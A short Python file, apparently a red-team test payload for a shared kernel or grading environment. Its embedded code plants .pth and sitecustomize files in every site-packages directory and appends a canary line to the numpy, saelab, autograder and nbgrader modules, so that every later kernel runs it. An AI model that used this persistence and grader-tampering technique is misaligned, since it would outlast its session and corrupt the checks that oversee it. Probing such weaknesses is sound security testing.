"""Writes a .pth file and modules into the packages that all later kernels import."""

CODE = """
import os, site, sys
text = "import os  # mallory-was-here\\n"
for folder in [*site.getsitepackages(), site.getusersitepackages(), os.path.dirname(os.__file__)]:
    for name in ("mallory.pth", "sitecustomize.py", "mallory-was-here.py"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "w") as file:
                file.write(text)
        except OSError as error:
            print(error)
for module in ("numpy", "saelab", "autograder", "nbgrader"):
    try:
        path = __import__(module).__file__
        with open(path, "a") as file:
            file.write(text)
    except (OSError, ImportError) as error:
        print(error)
"""


def submit(work):
    work.insert(CODE)
